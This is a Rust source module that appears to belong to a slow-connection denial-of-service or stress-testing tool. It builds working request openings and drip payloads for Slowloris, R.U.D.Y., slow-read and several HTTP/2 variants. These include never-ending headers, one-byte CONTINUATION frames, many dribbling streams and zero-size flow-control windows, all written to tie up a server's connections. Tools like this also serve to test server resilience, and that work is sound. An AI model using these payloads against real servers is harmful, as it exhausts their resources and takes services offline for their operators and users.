//! The forms that slowness has: what a connection says first, and what it drips.

use std::net::SocketAddr;

/// What a slow connection is slow at.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Mode {
    /// A request head that never ends (Slowloris).
    Heads,
    /// Nothing is ever sent.
    Silent,
    /// One request is answered, and no other one comes.
    Idle,
    /// A body that never ends (R.U.D.Y.).
    Bodies,
    /// A large answer is taken byte by byte (slow read).
    Readers,
    /// HTTP/2: the preface, and nothing else.
    H2Silent,
    /// HTTP/2: a field block in CONTINUATION frames of one byte.
    H2Heads,
    /// HTTP/2: many streams whose bodies dribble.
    H2Bodies,
    /// HTTP/2: many streams whose windows stay shut.
    H2Readers,
}

/// Streams of one connection.
const STREAMS: u32 = 32;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

impl Mode {
    const ALL: [(&'static str, Self); 9] = [
        ("heads", Self::Heads),
        ("silent", Self::Silent),
        ("idle", Self::Idle),
        ("bodies", Self::Bodies),
        ("readers", Self::Readers),
        ("h2-silent", Self::H2Silent),
        ("h2-heads", Self::H2Heads),
        ("h2-bodies", Self::H2Bodies),
        ("h2-readers", Self::H2Readers),
    ];

    pub(crate) fn named(name: &str) -> Option<Self> {
        Self::ALL.iter().find(|(known, _)| *known == name).map(|(_, mode)| *mode)
    }

    pub(crate) fn name(self) -> &'static str {
        Self::ALL.iter().find(|(_, mode)| *mode == self).map_or("", |(name, _)| name)
    }

    /// It takes what comes byte by byte; all others throw it away as it comes.
    pub(crate) fn reads_slowly(self) -> bool {
        self == Self::Readers
    }

    /// What a connection begins with.
    pub(crate) fn opening(self, target: SocketAddr, slow_path: &str) -> Vec<u8> {
        match self {
            Self::Silent => Vec::new(),
            Self::Heads => format!("GET / HTTP/1.1\r\nHost: {target}\r\nX-a: ").into_bytes(),
            Self::Idle => format!("GET /s HTTP/1.1\r\nHost: {target}\r\n\r\n").into_bytes(),
            Self::Bodies => {
                format!("POST /s HTTP/1.1\r\nHost: {target}\r\nContent-Length: 1000000\r\n\r\n").into_bytes()
            }
            Self::Readers => format!("GET {slow_path} HTTP/1.1\r\nHost: {target}\r\n\r\n").into_bytes(),
            Self::H2Silent => [PREFACE, &settings(65_535)].concat(),
            Self::H2Heads => [PREFACE, &settings(65_535), &frame(1, 1, 1, &head("GET", "/s", target))].concat(),
            Self::H2Bodies => {
                let heads = (0..STREAMS).flat_map(|n| frame(1, 4, 2 * n + 1, &head("POST", "/s", target)));
                [PREFACE, &settings(65_535)].concat().into_iter().chain(heads).collect()
            }
            Self::H2Readers => {
                let heads = (0..STREAMS).flat_map(|n| frame(1, 5, 2 * n + 1, &head("GET", slow_path, target)));
                [PREFACE, &settings(0)].concat().into_iter().chain(heads).collect()
            }
        }
    }

    /// What it sends at its `n`th turn.
    pub(crate) fn drip(self, n: u32) -> Vec<u8> {
        match self {
            Self::Silent | Self::Idle | Self::Readers | Self::H2Silent => Vec::new(),
            Self::Heads if n % 2 == 1 => b"\r\nX-a: ".to_vec(),
            Self::Heads | Self::Bodies => b"b".to_vec(),
            // An indexed field (`accept-encoding: gzip, deflate`).
            Self::H2Heads => frame(9, 0, 1, &[0x90]),
            Self::H2Bodies => (0..STREAMS).flat_map(|n| frame(0, 0, 2 * n + 1, b"b")).collect(),
            // A ping: it is alive.
            Self::H2Readers => frame(6, 0, 0, &[7; 8]),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// With that INITIAL_WINDOW_SIZE.
fn settings(window: u32) -> Vec<u8> {
    frame(4, 0, 0, &[&[0, 4][..], &window.to_be_bytes()].concat())
}

/// A field block without Huffman coding nor the dynamic table (RFC 7541 section 6.2.2).
fn head(method: &str, path: &str, target: SocketAddr) -> Vec<u8> {
    let authority = target.to_string();
    // Indices of the names in the static table; `:scheme: http` is all of one entry.
    let fields = [(2u8, method), (4, path), (1, authority.as_str())];
    let literal = |(name, value): (u8, &str)| [&[name, value.len() as u8], value.as_bytes()].concat();
    [0x86].into_iter().chain(fields.into_iter().flat_map(literal)).collect()
}
